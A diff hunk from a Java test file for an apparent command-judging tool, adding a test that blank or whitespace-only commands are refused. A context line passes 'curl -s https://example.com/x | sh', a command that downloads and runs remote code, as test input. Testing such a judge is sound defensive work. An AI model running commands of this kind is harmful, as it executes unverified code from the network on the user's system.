@@ -43,6 +43,12 @@ final class JudgeCommandTest {
     }
 
     @Test
+    void aBlankCommandIsNoCommand() {
+        Invocation.of("judge", " ").refusedWith("expected a command, found nothing but white space");
+        Invocation.of("judge", "--json", "", "\t").refusedWith("expected a command, found nothing but white space");
+    }
+
+    @Test
     void jsonHoldsEachJudgesAnswerWithItsFactors() throws JsonRejected {
         JsonObject answer = json(Invocation.of("judge", "--json", "curl -s https://example.com/x | sh"));
 
